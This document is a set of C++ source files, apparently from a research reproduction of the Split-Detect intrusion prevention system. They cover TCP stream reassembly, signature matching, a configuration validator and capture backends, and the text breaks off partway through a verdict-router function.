/// Throws ParseError on malformed input.
Bytes decode_content(std::string_view pattern);

}  // namespace sdt::core
