#include "core/conventional_ips.hpp"

#include <algorithm>
#include <cstring>

#include "net/checksum.hpp"
#include "util/error.hpp"

namespace sdt::core {

namespace {

RuleSetHandle compile_slow_only(const SignatureSet& sigs,
                                const ConventionalIpsConfig& cfg) {
  CompileOptions opts;
  opts.piece_len = 0;  // this engine never touches the piece database
  opts.layout = cfg.layout;
  return compile_ruleset(sigs, opts);
}

}  // namespace

ConventionalIps::ConventionalIps(const SignatureSet& sigs,
                                 ConventionalIpsConfig cfg)
    : ConventionalIps(compile_slow_only(sigs, cfg), cfg) {}

ConventionalIps::ConventionalIps(RuleSetHandle rules, ConventionalIpsConfig cfg)
    : cfg_(cfg), rules_(std::move(rules)), defrag_(cfg.defrag),
      table_({.max_flows = cfg.max_flows,
              .idle_timeout_usec = cfg.flow_idle_timeout_usec}) {
  if (!rules_) throw InvalidArgument("ConventionalIps: null rule-set handle");
  const auto reasm_cfg = cfg_.reasm;
  table_.set_value_factory([reasm_cfg] { return ConnState(reasm_cfg); });
}

void ConventionalIps::swap_ruleset(RuleSetHandle rules) {
  if (!rules) throw InvalidArgument("ConventionalIps: null rule-set handle");
  rules_ = std::move(rules);
}

ConventionalIps::ConnState& ConventionalIps::flow_state(
    const flow::FlowKey& key, std::uint64_t now_usec) {
  bool created = false;
  ConnState& cs = table_.get_or_create(key, now_usec, &created);
  if (created) {
    ++stats_.flows_seen;
    cs.rules = rules_;  // pin: this flow matches under today's version
  }
  return cs;
}

std::size_t ConventionalIps::process(const net::PacketView& pv,
                                     std::uint64_t now_usec,
                                     std::vector<Alert>& alerts) {
  const std::size_t before = alerts.size();
  ++stats_.packets;
  stats_.bytes += pv.frame.size();

  if (pv.is_fragment()) {
    if (auto datagram = defrag_.add(pv, now_usec)) {
      const net::PacketView whole = net::PacketView::parse_l3(*datagram);
      // Reprocess the rebuilt datagram (it is no longer a fragment).
      // Bytes were already counted for the fragments themselves.
      --stats_.packets;
      stats_.bytes -= whole.frame.size();
      process(whole, now_usec, alerts);
    }
    return alerts.size() - before;
  }

  if (!pv.ok()) {
    ++stats_.bad_packets;
    return 0;
  }

  // Insertion-attack filters (mirrors the fast path; see fast_path.cpp).
  if (cfg_.min_ttl != 0 && pv.ip_ttl() < cfg_.min_ttl) {
    ++stats_.low_ttl_ignored;
    return 0;
  }
  if (cfg_.verify_checksums) {
    if (net::transport_checksum(pv) != 0) {
      ++stats_.bad_checksum_ignored;
      return 0;
    }
  }

  if (pv.has_tcp) {
    process_tcp(pv, now_usec, alerts);
  } else if (pv.has_udp) {
    process_udp(pv, now_usec, alerts);
  }
  return alerts.size() - before;
}

void ConventionalIps::process_tcp(const net::PacketView& pv,
                                  std::uint64_t now_usec,
                                  std::vector<Alert>& alerts) {
  ++stats_.tcp_segments;
  const flow::FlowRef ref = flow::make_flow_ref(pv);

  if (pv.tcp.urg() && pv.tcp.urgent_pointer() != 0 &&
      !pv.l4_payload.empty()) {
    ++stats_.urgent_segments;
    if (cfg_.alert_on_urgent_data) {
      ConnState& ucs = flow_state(ref.key, now_usec);
      if (!already_alerted(ucs, kUrgentAlertId)) {
        ++stats_.alerts;
        alerts.push_back(
            Alert{ref.key, kUrgentAlertId, now_usec, 0, "normalizer-urgent"});
      }
    }
    // Normalize: continue processing the segment with its data in-band
    // (the most common stack behaviour) after flagging the ambiguity.
  }

  // A bare ACK/RST for a flow we do not track (e.g. the final ACK of a
  // close we already reclaimed) carries no stream bytes: stay stateless.
  if (table_.find(ref.key) == nullptr && pv.l4_payload.empty() &&
      !pv.tcp.syn() && !pv.tcp.fin()) {
    return;
  }

  ConnState& cs = flow_state(ref.key, now_usec);

  const reassembly::SegmentEvent ev =
      cs.conn.deliver(ref.dir, pv.tcp, pv.l4_payload);
  if (ev.out_of_order) ++stats_.out_of_order_segments;
  if (ev.overlap) ++stats_.overlapping_segments;
  if (ev.conflicting_overlap) {
    ++stats_.conflicting_overlaps;
    if (cfg_.alert_on_conflicting_overlap &&
        !already_alerted(cs, kConflictAlertId)) {
      ++stats_.alerts;
      alerts.push_back(Alert{ref.key, kConflictAlertId, now_usec,
                             cs.stream_pos[static_cast<std::size_t>(ref.dir)],
                             "normalizer-conflict"});
    }
  }
  if (ev.retransmission) ++stats_.retransmissions;

  const Bytes chunk = cs.conn.side(ref.dir).read_available();
  if (!chunk.empty()) {
    stats_.reassembled_bytes += chunk.size();
    scan_stream(ref.key, cs, ref.dir, chunk, now_usec, alerts);
  }

  if (cs.conn.closed()) table_.erase(ref.key);
}

void ConventionalIps::process_udp(const net::PacketView& pv,
                                  std::uint64_t now_usec,
                                  std::vector<Alert>& alerts) {
  ++stats_.udp_datagrams;
  stats_.bytes_scanned += pv.l4_payload.size();
  const flow::FlowRef ref = flow::make_flow_ref(pv);
  // Stateless scan: no cross-packet automaton state, so the current
  // version applies (nothing pins a UDP "flow" to an older artifact).
  rules_->full_matcher().scan(
      pv.l4_payload, match::AhoCorasick::kRoot,
      [&](match::AhoCorasick::Match m) {
        for (const std::uint32_t sid : rules_->sids_for_pattern(m.pattern_id)) {
          ++stats_.alerts;
          alerts.push_back(Alert{ref.key, sid, now_usec, m.end_offset, "udp"});
        }
      });
}

void ConventionalIps::scan_stream(const flow::FlowKey& key, ConnState& cs,
                                  flow::Direction dir, ByteView chunk,
                                  std::uint64_t now_usec,
                                  std::vector<Alert>& alerts) {
  const auto d = static_cast<std::size_t>(dir);
  stats_.bytes_scanned += chunk.size();
  // Match under the flow's pinned version: ac_state[d] indexes into that
  // artifact's automaton and stays valid across swap_ruleset.
  const CompiledRuleSet& rules = *cs.rules;
  cs.ac_state[d] = rules.full_matcher().scan(
      chunk, cs.ac_state[d], [&](match::AhoCorasick::Match m) {
        for (const std::uint32_t sid : rules.sids_for_pattern(m.pattern_id)) {
          if (already_alerted(cs, sid)) continue;
          ++stats_.alerts;
          alerts.push_back(Alert{key, sid, now_usec,
                                 cs.stream_pos[d] + m.end_offset, "slow-path"});
        }
      });
  cs.stream_pos[d] += chunk.size();

  if (cs.adopted && !cs.suffix_done[d]) {
    Bytes& head = cs.head[d];
    head.insert(head.end(), chunk.begin(), chunk.end());
    anchored_suffix_check(key, cs, dir, now_usec, alerts);
    if (head.size() >= rules.signatures().max_length()) {
      cs.suffix_done[d] = true;
      head.clear();
      head.shrink_to_fit();
    }
  }
}

void ConventionalIps::anchored_suffix_check(const flow::FlowKey& key,
                                            ConnState& cs, flow::Direction dir,
                                            std::uint64_t now_usec,
                                            std::vector<Alert>& alerts) {
  const auto d = static_cast<std::size_t>(dir);
  const Bytes& head = cs.head[d];
  const std::size_t slack =
      cs.suffix_slack[d] != 0
          ? std::min<std::size_t>(cs.suffix_slack[d], cfg_.takeover_slack)
          : cfg_.takeover_slack;
  for (const Signature& s : cs.rules->signatures()) {
    const std::size_t L = s.bytes.size();
    if (L < cfg_.min_suffix_len) continue;
    const std::size_t max_missing =
        std::min(slack, L - cfg_.min_suffix_len);
    for (std::size_t j = 1; j <= max_missing; ++j) {
      const std::size_t suffix_len = L - j;
      if (head.size() < suffix_len) continue;
      if (std::memcmp(head.data(), s.bytes.data() + j, suffix_len) == 0) {
        if (!already_alerted(cs, s.id)) {
          ++stats_.alerts;
          alerts.push_back(
              Alert{key, s.id, now_usec, suffix_len, "takeover-suffix"});
        }
        break;
      }
    }
  }
}

bool ConventionalIps::already_alerted(ConnState& cs, std::uint32_t sig_id) {
  if (std::find(cs.alerted.begin(), cs.alerted.end(), sig_id) !=
      cs.alerted.end()) {
    return true;
  }
  cs.alerted.push_back(sig_id);
  return false;
}

void ConventionalIps::adopt_flow(
    const flow::FlowKey& key,
    const std::optional<std::uint32_t> (&base_seq)[2],
    std::uint64_t now_usec, const std::uint16_t (&prefix_leak)[2]) {
  ConnState& cs = flow_state(key, now_usec);
  cs.adopted = true;
  for (std::size_t d = 0; d < 2; ++d) {
    // First pin wins: re-adoption (e.g. a second fragment completing after
    // the flow was already taken over) must not move an established origin.
    auto& side = cs.conn.side(static_cast<flow::Direction>(d));
    if (base_seq[d] && !side.started()) side.set_base(*base_seq[d]);
    if (cs.suffix_slack[d] == 0) cs.suffix_slack[d] = prefix_leak[d];
  }
}

void ConventionalIps::expire(std::uint64_t now_usec) {
  table_.expire_due(now_usec);
  defrag_.expire(now_usec);
}

bool ConventionalIps::erase_flow(const flow::FlowKey& key) {
  return table_.erase(key);
}

std::size_t ConventionalIps::memory_bytes() const {
  return flow_state_bytes() + rules_->full_matcher().memory_bytes();
}

std::size_t ConventionalIps::flow_state_bytes() const {
  std::size_t n = table_.memory_bytes() + defrag_.memory_bytes();
  table_.for_each([&n](const flow::FlowKey&, const ConnState& cs) {
    n += cs.conn.memory_bytes() - sizeof(cs.conn);  // slab already counts sizeof
    n += cs.head[0].capacity() + cs.head[1].capacity();
    n += cs.alerted.capacity() * sizeof(std::uint32_t);
  });
  return n;
}

}  // namespace sdt::core
