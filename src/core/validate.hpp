// Configuration validation: the paper's assumptions, as code.
//
// Split-Detect's guarantees are conditional — on piece length vs signature
// lengths, on divert-at-first-anomaly limits, on checksum verification, on
// topology knowledge for TTL chaff. Deployments that silently violate a
// condition get silent detection gaps, so this module audits a
// (signature set, config) pair and reports every violated or weakened
// assumption with its consequence. `examples/config_doctor.cpp` wraps it
// as a CLI.
#pragma once

#include <string>
#include <vector>

#include "core/engine.hpp"
#include "core/signature.hpp"

namespace sdt::core {

enum class Severity : std::uint8_t {
  error,    // construction would throw or detection is broken
  warning,  // a stated guarantee is weakened; consequence in the message
  info,     // sizing facts worth knowing
};

const char* to_string(Severity s);

struct ConfigIssue {
  Severity severity = Severity::info;
  std::string message;
};

struct ConfigReport {
  std::vector<ConfigIssue> issues;

  // Derived facts.
  std::size_t piece_len = 0;
  std::size_t small_segment_threshold = 0;  // 2p-1
  std::size_t min_signature_len = 0;
  std::size_t piece_count = 0;
  std::size_t matcher_bytes = 0;           // dense fast-path automaton
  double est_fast_state_bytes_1m = 0.0;    // provisioned for 1M flows
  double piece_hits_per_mb = -1.0;         // -1 when no sample was given

  bool ok() const {
    for (const auto& i : issues) {
      if (i.severity == Severity::error) return false;
    }
    return true;
  }
  std::size_t count(Severity s) const {
    std::size_t n = 0;
    for (const auto& i : issues) n += i.severity == s ? 1 : 0;
    return n;
  }
};

/// Audit `cfg` against `sigs`. `benign_sample`, when non-empty, enables the
/// chance-piece-hit estimate and the phase-optimization suggestion.
ConfigReport validate_config(const SignatureSet& sigs,
                             const SplitDetectConfig& cfg,
                             ByteView benign_sample = {});

}  // namespace sdt::core
