#include "core/validate.hpp"

#include <algorithm>

#include "core/splitter.hpp"

namespace sdt::core {

const char* to_string(Severity s) {
  switch (s) {
    case Severity::error:
      return "ERROR";
    case Severity::warning:
      return "WARNING";
    case Severity::info:
      return "INFO";
  }
  return "?";
}

namespace {

void add(ConfigReport& r, Severity sev, std::string msg) {
  r.issues.push_back(ConfigIssue{sev, std::move(msg)});
}

}  // namespace

ConfigReport validate_config(const SignatureSet& sigs,
                             const SplitDetectConfig& cfg,
                             ByteView benign_sample) {
  ConfigReport r;
  const std::size_t p = cfg.fast.piece_len;
  r.piece_len = p;
  r.small_segment_threshold = cfg.fast.effective_min_payload();

  if (sigs.empty()) {
    add(r, Severity::error, "signature set is empty");
    return r;
  }
  if (p < 2) {
    add(r, Severity::error, "piece_len must be >= 2");
    return r;
  }
  r.min_signature_len = sigs.min_length();

  // --- hard conditions -----------------------------------------------------
  std::size_t too_short = 0;
  std::string example;
  for (const Signature& s : sigs) {
    if (s.bytes.size() < 2 * p) {
      ++too_short;
      if (example.empty()) example = s.name;
    }
  }
  if (too_short > 0) {
    add(r, Severity::error,
        std::to_string(too_short) + " signature(s) shorter than 2p=" +
            std::to_string(2 * p) + " cannot be split (e.g. '" + example +
            "'); lower piece_len or drop them explicitly");
    return r;  // engine construction would throw; later checks meaningless
  }

  // --- weakened-guarantee conditions ---------------------------------------
  if (cfg.fast.small_segment_limit > 1 || cfg.fast.ooo_limit > 1) {
    add(r, Severity::warning,
        "anomaly limits > 1 void the provable-detection configuration: an "
        "attacker gets " +
            std::to_string(std::max<int>(cfg.fast.small_segment_limit,
                                         cfg.fast.ooo_limit) -
                           1) +
            " free anomalies per flow before diversion");
  }
  if (!cfg.fast.verify_checksums) {
    add(r, Severity::warning,
        "checksum verification disabled: bad-checksum insertion decoys will "
        "desynchronize sequence tracking and blind first-arrival matching");
  }
  if (cfg.min_ttl == 0) {
    add(r, Severity::warning,
        "min_ttl unset: TTL-expiring decoys are only caught as "
        "normalizer-conflicts in already-diverted flows; configure the "
        "protected hosts' hop distance to drop them outright");
  }
  const std::size_t needed = 3 * p - 3 + 4;  // default min_suffix_len
  if (sigs.min_length() < needed) {
    add(r, Severity::warning,
        "shortest signature (" + std::to_string(sigs.min_length()) +
            " bytes) is below 3p-3+min_suffix=" + std::to_string(needed) +
            ": the anchored-suffix floor leaves a crafted-leak gap for it "
            "(DESIGN.md, precision refinements); use p <= " +
            std::to_string((sigs.min_length() - 4 + 3) / 3) + " to close it");
  }
  if (r.small_segment_threshold > 64) {
    add(r, Severity::warning,
        "small-segment threshold 2p-1=" +
            std::to_string(r.small_segment_threshold) +
            " reaches deep into benign packet sizes; expect elevated "
            "interactive-flow diversion (bench E4/E7)");
  }

  // --- sizing facts ---------------------------------------------------------
  const PieceSet pieces(sigs, p, cfg.fast.layout);
  r.piece_count = pieces.piece_count();
  r.matcher_bytes = pieces.memory_bytes();
  // 16B record + key/links/index, as measured by E2 (~64 B/flow provisioned).
  r.est_fast_state_bytes_1m = 64.0 * 1e6;
  add(r, Severity::info,
      std::to_string(sigs.size()) + " signatures -> " +
          std::to_string(r.piece_count) + " pieces; fast-path matcher " +
          std::to_string(r.matcher_bytes / 1024) + " KiB (" +
          (cfg.fast.layout == match::AcLayout::dense_dfa ? "dense" : "sparse") +
          ")");

  // --- sample-driven estimates ----------------------------------------------
  if (!benign_sample.empty()) {
    std::size_t hits = 0;
    pieces.matcher().scan(benign_sample, match::AhoCorasick::kRoot,
                          [&](match::AhoCorasick::Match) { ++hits; });
    r.piece_hits_per_mb = static_cast<double>(hits) * 1e6 /
                          static_cast<double>(benign_sample.size());
    if (r.piece_hits_per_mb > 10.0) {
      // Would phase optimization help?
      const PieceSet opt(sigs, p, cfg.fast.layout, benign_sample);
      std::size_t opt_hits = 0;
      opt.matcher().scan(benign_sample, match::AhoCorasick::kRoot,
                         [&](match::AhoCorasick::Match) { ++opt_hits; });
      if (opt_hits * 5 < hits * 4) {  // >20% improvement
        add(r, Severity::warning,
            "pieces hit benign sample " +
                std::to_string(static_cast<long long>(r.piece_hits_per_mb)) +
                " times/MB; phase-optimized splitting "
                "(fast.piece_phase_sample) would cut that to " +
                std::to_string(static_cast<long long>(
                    static_cast<double>(opt_hits) * 1e6 /
                    static_cast<double>(benign_sample.size()))) +
                "/MB");
      } else {
        add(r, Severity::warning,
            "pieces hit benign sample " +
                std::to_string(static_cast<long long>(r.piece_hits_per_mb)) +
                " times/MB and phase optimization cannot fix it (hot pieces "
                "are edge-anchored); consider a larger piece_len");
      }
    }
  }

  return r;
}

}  // namespace sdt::core
