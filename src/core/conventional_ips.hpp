// The conventional reassembling-and-normalizing IPS.
//
// Plays two roles in the reproduction:
//   * the *baseline* the paper compares against (full per-flow reassembly +
//     streaming multi-pattern match over normalized streams, state for up
//     to 1M connections), and
//   * Split-Detect's *slow path*, adopting flows the fast path diverts.
//
// Mid-stream takeover rule: when a flow is adopted after diversion, a short
// signature prefix may already have slipped past the fast path inside
// packets it forwarded: at most p-1 bytes via a clean packet overhanging
// the signature start (any longer in-packet prefix contains the first
// piece), plus at most 2p-2 bytes via one small segment held pending under
// the FIN exemption — 3p-3 bytes in total. The slow path therefore also
// checks whether the adopted stream *begins with* a suffix of any signature
// missing at most `takeover_slack` leading bytes. The check is anchored at
// the takeover point, so it adds no false-positive surface downstream.
#pragma once

#include <cstdint>
#include <optional>
#include <vector>

#include "core/compiled_ruleset.hpp"
#include "core/signature.hpp"
#include "core/verdict.hpp"
#include "flow/flow_table.hpp"
#include "match/aho_corasick.hpp"
#include "net/packet.hpp"
#include "reassembly/connection.hpp"
#include "reassembly/ip_defrag.hpp"

namespace sdt::core {

struct ConventionalIpsConfig {
  reassembly::TcpReassemblerConfig reasm;
  reassembly::IpDefragConfig defrag;
  std::size_t max_flows = 1 << 20;
  std::uint64_t flow_idle_timeout_usec = 60ull * 1000 * 1000;
  match::AcLayout layout = match::AcLayout::dense_dfa;
  /// Maximum missing signature prefix tolerated at takeover (Split-Detect
  /// sets this to 3p-3; 0 disables the anchored suffix check). Adoption
  /// can tighten it per flow direction via the fast path's measured leak
  /// bound (see FastDecision::Takeover::prefix_leak).
  std::size_t takeover_slack = 0;
  /// Floor on the anchored-suffix length: candidate suffixes shorter than
  /// this are not reported (a 1-byte "suffix match" is noise, not
  /// detection). Soundness caveat, documented in DESIGN.md: an attacker
  /// exploiting the floor must fit all but (min_suffix_len-1) bytes of a
  /// signature into the leak window, which is only possible when
  /// signatures are shorter than 3p-3 + min_suffix_len — choose p
  /// accordingly (p <= (Lmin - min_suffix_len + 3) / 3 closes it).
  std::size_t min_suffix_len = 4;
  /// Normalizer mode: raise an alert when a flow retransmits a byte range
  /// with *different* content. Two interpretations of one stream is the
  /// root Ptacek-Newsham ambiguity; a consistent normalizer refuses to
  /// let it pass silently. Enabled by Split-Detect for its slow path.
  bool alert_on_conflicting_overlap = false;
  /// Ignore segments whose TCP/UDP checksum fails: the receiver drops
  /// them, so they are insertion-attack chaff (Ptacek-Newsham).
  bool verify_checksums = true;
  /// When non-zero, ignore segments whose TTL is below the protected
  /// hosts' hop distance (TTL insertion attack). 0 disables.
  std::uint8_t min_ttl = 0;
  /// Alert on urgent-mode data segments: whether the urgent byte reaches
  /// the application in-band is stack-dependent, so a normalizer flags it.
  bool alert_on_urgent_data = false;
};

/// Sentinel signature id used for normalizer alerts that are not tied to a
/// rule (e.g. conflicting retransmission).
inline constexpr std::uint32_t kConflictAlertId = 0xffffffffu;
/// Sentinel signature id for urgent-mode ambiguity alerts.
inline constexpr std::uint32_t kUrgentAlertId = 0xfffffffeu;

struct ConventionalIpsStats {
  std::uint64_t packets = 0;
  std::uint64_t bytes = 0;
  std::uint64_t tcp_segments = 0;
  std::uint64_t udp_datagrams = 0;
  std::uint64_t bad_packets = 0;
  std::uint64_t reassembled_bytes = 0;
  std::uint64_t bytes_scanned = 0;
  std::uint64_t alerts = 0;
  std::uint64_t out_of_order_segments = 0;
  std::uint64_t overlapping_segments = 0;
  std::uint64_t conflicting_overlaps = 0;
  std::uint64_t retransmissions = 0;
  std::uint64_t flows_seen = 0;
  std::uint64_t bad_checksum_ignored = 0;
  std::uint64_t low_ttl_ignored = 0;
  std::uint64_t urgent_segments = 0;
};

/// Full reassembling IPS over one interface.
class ConventionalIps {
 public:
  /// Compile-on-construct convenience: copies `sigs` into a private
  /// version-0 artifact (no pieces — this engine never needs them).
  ConventionalIps(const SignatureSet& sigs, ConventionalIpsConfig cfg = {});
  /// Share an already-compiled artifact (the hot-reload shape). Throws
  /// InvalidArgument on a null handle.
  explicit ConventionalIps(RuleSetHandle rules, ConventionalIpsConfig cfg = {});

  /// Adopt a new rule-set version. Existing flows keep matching under the
  /// version they started with (their streaming automaton state indexes
  /// into THAT automaton — mixing versions mid-stream would be memory-
  /// unsafe, not just unsound); new flows and stateless (UDP) scans use
  /// the new version immediately. Single-threaded with process(); the
  /// cross-thread handoff lives in control::RuleSetRegistry.
  void swap_ruleset(RuleSetHandle rules);
  std::uint64_t ruleset_version() const { return rules_->version(); }
  const RuleSetHandle& ruleset() const { return rules_; }

  /// Process one parsed packet (fragments are defragmented internally).
  /// Appends any alerts raised. Returns alert count for this packet.
  std::size_t process(const net::PacketView& pv, std::uint64_t now_usec,
                      std::vector<Alert>& alerts);

  /// Establish per-flow state for a diverted flow before its first diverted
  /// packet arrives. `base_seq[d]`, when set, is the fast path's expected
  /// next sequence number for direction d — stream offset 0 of the adopted
  /// reassembly. `prefix_leak[d]` bounds how many signature-prefix bytes
  /// may have passed the fast path in that direction (tightens the
  /// anchored suffix check); pass {0,0} to fall back to takeover_slack.
  void adopt_flow(const flow::FlowKey& key,
                  const std::optional<std::uint32_t> (&base_seq)[2],
                  std::uint64_t now_usec,
                  const std::uint16_t (&prefix_leak)[2] = kNoLeakBound);

  static constexpr std::uint16_t kNoLeakBound[2] = {0, 0};

  /// Time-based housekeeping (timing-wheel flow expiry + defrag timeout).
  void expire(std::uint64_t now_usec);

  /// Budget hook for the slow-path admission controller: drop one flow's
  /// reassembly state outright (a shed flow must stop holding buffers the
  /// moment the admission verdict lands, not at its idle timeout). Returns
  /// true when state existed.
  bool erase_flow(const flow::FlowKey& key);

  const ConventionalIpsStats& stats() const { return stats_; }
  std::size_t flows() const { return table_.size(); }

  /// Total engine memory: flow table + all per-flow reassembly buffers +
  /// defrag contexts + the signature automaton.
  std::size_t memory_bytes() const;
  /// Memory excluding the (shared, per-box) automaton: the per-flow state
  /// the E2 experiment measures.
  std::size_t flow_state_bytes() const;

  const match::AhoCorasick& matcher() const { return rules_->full_matcher(); }

 private:
  struct ConnState {
    reassembly::TcpConnection conn;
    match::AhoCorasick::State ac_state[2] = {match::AhoCorasick::kRoot,
                                             match::AhoCorasick::kRoot};
    std::uint64_t stream_pos[2] = {0, 0};
    bool adopted = false;
    bool suffix_done[2] = {false, false};
    std::uint16_t suffix_slack[2] = {0, 0};  // per-direction leak bound
    Bytes head[2];  // adopted flows: first bytes for the anchored check
    std::vector<std::uint32_t> alerted;  // signature ids already raised
    /// The rule-set version this flow is pinned to. ac_state[] are state
    /// indices into THIS artifact's automaton — the pin is what keeps them
    /// valid across swap_ruleset, and the shared_ptr is what keeps the old
    /// automaton alive until the last pinned flow expires.
    RuleSetHandle rules;

    explicit ConnState(const reassembly::TcpReassemblerConfig& cfg)
        : conn(cfg) {}
    ConnState() = default;
  };

  void process_tcp(const net::PacketView& pv, std::uint64_t now_usec,
                   std::vector<Alert>& alerts);
  void process_udp(const net::PacketView& pv, std::uint64_t now_usec,
                   std::vector<Alert>& alerts);
  void scan_stream(const flow::FlowKey& key, ConnState& cs,
                   flow::Direction dir, ByteView chunk, std::uint64_t now_usec,
                   std::vector<Alert>& alerts);
  void anchored_suffix_check(const flow::FlowKey& key, ConnState& cs,
                             flow::Direction dir, std::uint64_t now_usec,
                             std::vector<Alert>& alerts);
  bool already_alerted(ConnState& cs, std::uint32_t sig_id);
  /// get_or_create + version pin for new flows.
  ConnState& flow_state(const flow::FlowKey& key, std::uint64_t now_usec);

  ConventionalIpsConfig cfg_;
  ConventionalIpsStats stats_;
  /// The version new flows pin and stateless scans use (never null).
  RuleSetHandle rules_;
  reassembly::IpDefragmenter defrag_;
  flow::FlowTable<ConnState> table_;
};

}  // namespace sdt::core
