// sdt::wire — capture front-ends: the runtime's front door.
//
// One interface, three backends:
//   * file     — offline pcap/pcapng replay (src/pcap/). Always built, so
//                every test and CI run exercises the exact code path a live
//                deployment uses — only the poll() producer differs.
//   * pcap     — libpcap live device (pcap_live.hpp, SDT_WITH_PCAP).
//   * afpacket — AF_PACKET TPACKET_V3 mmap ring (afpacket.hpp,
//                SDT_WITH_AFPACKET, Linux only).
//
// poll() fills a caller-owned vector with owned net::Packets; the caller
// moves the batch into Runtime::feed (tap) or submits each frame to the
// VerdictRouter (inline). Owned packets mean the only further copy is the
// runtime's arena copy — the file backend hands out the reader's buffers
// directly, the live backends copy once out of the kernel ring (mandatory:
// ring frames are released back to the kernel before the engine finishes).
//
// Drops are first-class: CaptureStats::kernel_dropped surfaces the
// backend/kernel ring overruns that a "we saw no attack" claim silently
// hides — the wire.capture_kernel_dropped metric and the WireDropBreakdown
// mirror both come from here.
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "net/headers.hpp"
#include "net/packet.hpp"
#include "util/bytes.hpp"

namespace sdt::wire {

/// Capture-side ledger, pollable at any time from the polling thread.
struct CaptureStats {
  std::uint64_t delivered = 0;       ///< frames handed to the caller
  std::uint64_t kernel_dropped = 0;  ///< backend/kernel ring overruns
  std::uint64_t truncated = 0;       ///< snaplen-clipped frames (best effort)
};

class CaptureSource {
 public:
  virtual ~CaptureSource() = default;

  virtual net::LinkType link_type() const = 0;
  /// Backend name for logs/metrics: "file", "pcap", "afpacket".
  virtual const char* backend() const = 0;

  /// Append up to `max` packets to `out` (not cleared). Returns how many
  /// were appended; 0 means idle (live source, nothing buffered right now)
  /// or exhausted (file source, replay finished) — disambiguate with
  /// exhausted(). Single polling thread.
  virtual std::size_t poll(std::vector<net::Packet>& out, std::size_t max) = 0;

  /// True once this source will never produce another packet (file replay
  /// finished, device closed). Live sources return false while open.
  virtual bool exhausted() const = 0;

  virtual CaptureStats stats() const = 0;
};

enum class SourceKind : std::uint8_t { file, pcap_live, afpacket };

const char* to_string(SourceKind k);
/// Whether this build carries the backend (file is always true; the live
/// backends depend on SDT_WITH_PCAP / SDT_WITH_AFPACKET).
bool backend_available(SourceKind k);

/// Everything open_source() needs, for any backend; unused fields are
/// ignored (e.g. `repeat` for live devices, `promiscuous` for files).
struct SourceSpec {
  SourceKind kind = SourceKind::file;
  /// Capture path (file) or device name (live).
  std::string target;
  /// File backend: replay the capture this many times (soak/load shaping).
  std::size_t repeat = 1;
  std::uint32_t snaplen = 262144;
  /// Live backends: kernel ring/buffer budget in bytes.
  std::size_t buffer_bytes = 4u << 20;
  bool promiscuous = true;
};

/// Open the backend `spec` names. Throws util Error subclasses: on missing
/// files, on devices that cannot be opened, and — with a message naming
/// the CMake option — on backends compiled out of this build.
std::unique_ptr<CaptureSource> open_source(const SourceSpec& spec);

/// The always-built offline backend: replays a pcap/pcapng capture from
/// disk or memory, `repeat` times (each pass re-reads from the start;
/// timestamps are replayed verbatim).
class FileSource final : public CaptureSource {
 public:
  FileSource(std::string path, std::size_t repeat = 1);
  /// In-memory capture (tests, benches): no filesystem involved.
  FileSource(Bytes capture, std::size_t repeat = 1);
  ~FileSource() override;  // out-of-line: FileSourceReader is incomplete here

  net::LinkType link_type() const override { return link_type_; }
  const char* backend() const override { return "file"; }
  std::size_t poll(std::vector<net::Packet>& out, std::size_t max) override;
  bool exhausted() const override { return exhausted_; }
  CaptureStats stats() const override { return stats_; }

 private:
  void reopen();

  std::string path_;   // empty = in-memory
  Bytes capture_;      // retained for in-memory repeats
  std::size_t repeats_left_;
  bool exhausted_ = false;
  net::LinkType link_type_ = net::LinkType::ethernet;
  CaptureStats stats_;
  std::unique_ptr<class FileSourceReader> reader_;
};

}  // namespace sdt::wire
