// sdt::wire — libpcap live-device backend (SDT_WITH_PCAP builds only).
//
// Non-blocking pcap_dispatch() from poll(); each kernel frame is copied
// once into an owned net::Packet (mandatory — libpcap reuses its buffer
// between callbacks). Kernel drops come from pcap_stats(ps_drop), which
// libpcap reports as a running total; we diff against the last reading.
#pragma once

#include <memory>

#include "wire/capture.hpp"

namespace sdt::wire {

/// Open `spec.target` as a live libpcap device. Throws IoError with
/// libpcap's own message when the device cannot be opened or activated,
/// and ParseError when its link type is neither Ethernet nor raw IP.
std::unique_ptr<CaptureSource> open_pcap_live(const SourceSpec& spec);

}  // namespace sdt::wire
