// sdt::wire — AF_PACKET TPACKET_V3 backend (SDT_WITH_AFPACKET, Linux).
//
// The kernel writes frames into a mmap'd block ring; poll() walks the
// blocks the kernel has handed to userspace, copies each frame once into
// an owned net::Packet, and releases the block. A block is only returned
// to the kernel after every frame in it has been copied out, so frames
// never alias kernel memory past poll(). Kernel drops come from
// PACKET_STATISTICS (tp_drops, reset-on-read).
#pragma once

#include <memory>

#include "wire/capture.hpp"

namespace sdt::wire {

/// Open `spec.target` as an AF_PACKET TPACKET_V3 capture. Requires
/// CAP_NET_RAW; throws IoError (with errno text) when the socket, ring,
/// or bind fails. Link type is always Ethernet (cooked devices are not
/// supported).
std::unique_ptr<CaptureSource> open_afpacket(const SourceSpec& spec);

}  // namespace sdt::wire
