#include "wire/verdict_router.hpp"

#include <algorithm>
#include <chrono>
#include <string>

#include "util/error.hpp"

namespace sdt::wire {

namespace {
constexpr std::size_t kPollBatch = 256;
}  // namespace

VerdictRouter::VerdictRouter(InlinePipe& pipe, VerdictSink& sink,
                             RouterConfig cfg)
    : pipe_(pipe), sink_(sink), cfg_(std::move(cfg)) {
  if (cfg_.hold_capacity == 0) {
    throw InvalidArgument("wire: hold_capacity == 0");
  }
  budget_ns_ = cfg_.latency_budget_us * 1000ull;
  const std::size_t ring_cap =
      cfg_.hold_capacity + pipe_.in_flight_bound() + cfg_.ring_slack;
  rings_.reserve(pipe_.lanes());
  for (std::size_t i = 0; i < pipe_.lanes(); ++i) {
    rings_.push_back(std::make_unique<runtime::SpscRing<VerdictMsg>>(ring_cap));
  }
  edge_scratch_.reserve(64);
}

VerdictRouter::~VerdictRouter() = default;

std::uint64_t VerdictRouter::clock_ns() const {
  if (cfg_.now_ns) return cfg_.now_ns();
  return static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::nanoseconds>(
          std::chrono::steady_clock::now().time_since_epoch())
          .count());
}

// --- producer side (lane / dispatcher threads) -----------------------------

void VerdictRouter::on_verdict(std::size_t lane, std::uint64_t ticket,
                               core::Action action) {
  Resolution res = Resolution::drop;
  switch (action) {
    case core::Action::forward: res = Resolution::accept; break;
    case core::Action::divert: res = Resolution::divert; break;
    case core::Action::alert: res = Resolution::drop; break;
  }
  VerdictMsg msg{ticket, res};
  if (lane < rings_.size() && rings_[lane]->try_push(VerdictMsg(msg))) return;
